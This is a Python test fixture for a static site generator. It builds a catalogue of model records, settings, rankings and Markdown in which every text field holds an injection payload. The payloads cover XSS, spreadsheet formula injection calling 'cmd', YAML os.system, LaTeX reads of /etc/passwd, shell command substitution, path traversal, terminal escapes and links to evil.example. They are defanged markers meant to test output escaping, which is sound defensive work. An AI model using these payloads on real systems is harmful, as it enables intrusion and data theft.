"""A catalogue in which every text that somebody else writes is an attack: on pages, files, terminals, shells, tables.

Whatever of a payload became markup would carry `xpoly` as its name or as an attribute, and whatever of it ran would set
`window.xpoly` or make a file of that name.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

from sitegen.outcome import UNSEEN
from tests.factory import COLUMNS, DAY, NEW, Row, put, row, write

RUN = "window.xpoly=1"
EVIL = "https://evil.example"
PAYLOADS = (
    f"<script xpoly>{RUN}</script><img xpoly src=x onerror={RUN}><svg xpoly onload={RUN}>",
    f"\"' xpoly autofocus tabindex=1 onfocus={RUN} x=\"'><xpoly>",
    f"--></title></textarea></style></template></noscript></script><script xpoly>{RUN}</script><!--",
    f']]></svg></math><svg xpoly><style><img xpoly title="</style><img xpoly src onerror={RUN}>"></svg>',
    (
        "<math xpoly><mtext><table><mglyph><style><!--</style>"
        f'<img xpoly title="--&gt;&lt;img xpoly src=1 onerror={RUN}>">'
    ),
    f"javascript:{RUN}//https://a.example/%0a{RUN}",
    f"data:text/html,<script xpoly>{RUN}</script>",
    f'\\u003cscript xpoly\\u003e{RUN}\\u003c/script\\u003e\u2028{RUN}\u2029;{RUN}//\\"+{RUN}+"',
    f"{{{{ {RUN} }}}}{{% raw %}}${{{RUN}}}#{{{RUN}}}<%= {RUN} %>{{title}}{{model_id}}%(x)s%s",
    (
        f"<meta xpoly http-equiv=refresh content='0;url={EVIL}'><base xpoly href={EVIL}><link xpoly rel=stylesheet "
        f"href={EVIL}>"
    ),
    (
        f"<form xpoly id=location name=body action={EVIL}><input xpoly name=attributes>"
        f"<iframe xpoly srcdoc='<script>top.{RUN}</script>'>"
    ),
    f"=HYPERLINK(\"{EVIL}\");=1+1\t=cmd|'/c calc'!A1",
    "+1+cmd|' /C calc'!A0\r\n=2+5",
    "-2+3;@SUM(1+1)\n@x",
    "\t=1+1",
    f"@import url({EVIL});*{{background:url({EVIL})}}",
    f"\x1b]8;;{EVIL}\x1b\\link\x1b]8;;\x1b\\\x1b]0;title\x07\x1b]52;c;eHBvbHk=\x07\x1b[2J\x9b31m\x90x\x9c\x00",
    f"[click](javascript:{RUN}) ![i]({EVIL}/i.png) <{EVIL}> <b xpoly>b</b>\n# h\n```\n[r]: {EVIL}",
    "a: !!python/object/apply:os.system ['touch xpoly']\n--- \n- &a [*a]\n",
    "}}, url={x}} \\input{/etc/passwd} \\write18{touch xpoly} %\n@misc{xpoly,",
    "$(touch xpoly)`touch xpoly`';touch xpoly;'\";touch xpoly;\"|touch xpoly&&touch xpoly\ntouch xpoly #",
    "../../../xpoly",
    "C:\\xpoly\\..\\con.zip",
    "--index-url=https://evil.example -r /etc/passwd -e git+https://evil.example/x",
    "\u202egnp.exe\u2066\u200b\u200f\ufeff\u061c right \u2069 to left",
    "[red]rich[/red] [link=https://evil.example]x[/link] [/nothing]",
    "__proto__",
    "constructor",
)
TEXTS = [name for name, kind in COLUMNS.items() if str(kind) == "string" and name != "model_id"] + [
    "task",
    "architecture",
    "extra_packages",
]


def of(number: int) -> str:
    """A payload; all of them in turn."""
    return PAYLOADS[number % len(PAYLOADS)]


def model_id(number: int) -> str:
    """An id that a catalogue takes: anything that can be seen and does not lead elsewhere in an address."""
    text = re.sub("/+", "/", UNSEEN.sub("", of(number)).replace("../", "..;/")).strip().strip("/")
    return f"{text}/{number}" if number % 2 else f"owner-{number}/{text}"


def rows() -> list[Row]:
    """A row for each payload, so that every column has each of them once; failures and retests among them."""
    return [changed for number in range(len(PAYLOADS)) for changed in _rows(number)]


def _rows(number: int) -> Iterator[Row]:
    values: Row = {name: of(number + place) for place, name in enumerate(TEXTS)}
    values |= {
        "error": f'Traceback (most recent call last):\n  File "{of(number + 3)}", line 3, in {of(number)}\n'
        f"    {of(number + 1)}\nValueError: {of(number + 2)}\n",
        "run_py": f"# /// script\n# dependencies = [{json.dumps(of(number))}]\n# ///\n"
        f"x = '''{of(number)}'''\n# {of(number + 1)}\n",
        "packages": json.dumps({of(number): of(number + 1), of(number + 2): of(number)}),
        of(number): of(number + 1),  # a column that is not known
        "tested_at": DAY + timedelta(days=number),
        "tp": 1 + number % 3,
    }
    if number % 3 == 0:
        values["result"] = "FAIL"
    if number % 3:  # two of one library are compared
        values["library"] = "transformers"
    if number % 3 == 1:
        values |= {"neuronx_cc": NEW, "library_version": "5.21.0"}
    values["model_id"] = model_id(number)
    yield {**row(), **values}
    if number % 3 == 2:
        yield {**row(), **values, "neuronx_cc": NEW, "library_version": "5.21.0", "error": None, "run_py": of(number)}
    if number % 5 == 0:
        yield {**row(), **values, "result": of(number + 4), "notes": of(number + 5)}
    if number < 2:  # ambiguous names
        yield {**row(), **values, "model_id": ("acme/case", "acme/Case")[number]}


def catalogue(folder: Path) -> Path:
    """The data folder, in which settings, rankings, lists and names of files attack too; beside it `content/`."""
    data = folder / "data"
    for number, found in enumerate(rows()):
        name = of(number).replace("/", "|").replace("\x00", "").encode()[:200].decode("utf-8", "ignore")
        put(data, [found], f"{number} {name}.parquet")
    _settings(data)
    _rankings(data)
    _lists(data)
    _content(folder / "content")
    return data


def _toml(text: str) -> str:
    return json.dumps(text).replace("\\u007f", "\\u007F")


def _settings(data: Path) -> None:
    address = f"{EVIL}/'onfocus={RUN}'$(touch+xpoly);&lt;script&gt;//"  # all that an address may hold
    keys = {
        name: of(number)
        for number, name in enumerate("title notice device compiler memory_label licence revision".split())
    }
    keys |= dict.fromkeys(("dataset", "source"), address)
    keys["source_url"] = address + "/{revision}/{file}"
    keys["model_url"] = address + "/{id}"
    keys["report_url"] = address + "?title={title}&body={body}"
    steps = {
        "image": of(0) + "{model_id}",
        "instance": of(1),
        "neff_cache": "echo '{neuronx_cc}' {model_id}",
        "index": EVIL,
    }
    lines = [
        f"{name} = {_toml(text.replace('{', '(').replace('}', ')') if 'url' not in name else text)}"
        for name, text in keys.items()
    ]
    lines += ["[reproduce]", *(f"{name} = {_toml(text)}" for name, text in steps.items())]
    write(data / "catalog.toml", "\n".join(lines))


def _rankings(data: Path) -> None:
    for number in range(0, len(PAYLOADS), 4):
        models = [
            {
                "id": model_id(place),
                "downloads": 5,
                "likes": 5,
                "trending_score": 1,
                "gated": of(place),
                "last_modified": of(place + 1),
                "was": [f"was-{place}/{of(place).replace('../', '')}"],
            }
            for place in (number, number + 1, number + 100)
        ]
        record: dict[str, Any] = {
            "schema": 1,
            "ranking": "trending",
            "task": UNSEEN.sub("", of(number)),
            "taken_at": "2026-10-28T00:00:00Z",
        }
        record |= {
            "source": f"https://evil.example/{of(number)}" if number else f"{EVIL}/'onfocus={RUN}",
            "models": models,
            of(number): of(number),
        }
        write(data / "rankings" / f"{number}.json", json.dumps(record))


def _lists(data: Path) -> None:
    chosen = [
        f"[[model]]\nid = {_toml(model_id(n))}\nnote = {_toml(of(n))}\nsince = {_toml(of(n + 1))}\n"
        for n in range(len(PAYLOADS))
    ]
    write(data / "lists" / "selected.toml", "".join(chosen))
    left_out = [
        f"[[exclusion]]\nid = {_toml(model_id(n + 100))}\nreason = {_toml(of(n))}\n" for n in range(len(PAYLOADS))
    ]
    write(data / "lists" / "excluded.toml", "".join(left_out))


def _content(folder: Path) -> None:
    """Authors' Markdown, in which HTML is allowed and cleaned."""
    body = "\n\n".join(
        f"{text}\n\n[a](javascript:{RUN}) [b](data:text/html,x) {{: xpoly onclick={RUN} style=x }}" for text in PAYLOADS
    )
    body = body.replace("\x00", "")
    write(
        folder / "docs" / "hostile.md",
        f"title: {PAYLOADS[0]}\nsummary: {PAYLOADS[1]}\norder: 1\n\n# {PAYLOADS[2]}\n\n## {PAYLOADS[1]}\n\n{body}\n",
    )
    write(folder / "caveats" / "this-checkpoint.md", f"{PAYLOADS[0]} {{model_id}} {PAYLOADS[4]}")


def previous(folder: Path) -> Path:
    """The list of an earlier build, of which models went, were renamed, and say hostile things."""
    table: dict[str, Any] = {
        "schema": "sitegen-urls",
        "version": 1,
        "files": [],
        "moved": {},
        "lost": [],
        "renamed": {},
    }
    models = {f"gone-{n}/{of(n)}": f"models/gone-{n}/x/" for n in range(0, len(PAYLOADS), 3)}
    models |= {f"was-{n}/{of(n).replace('../', '')}": f"models/was-{n}/x/" for n in (0, 4, 8)}
    table["pages"] = {f"{at}index.html": f"the model {model}" for model, at in models.items()}
    table["models"] = {model: [at, "pass", of(n)] for n, (model, at) in enumerate(models.items())}
    table["gone"] = {"models/old/x/index.html": of(0)}
    table["former"] = {}
    return write(folder / "urls.json", json.dumps(table))
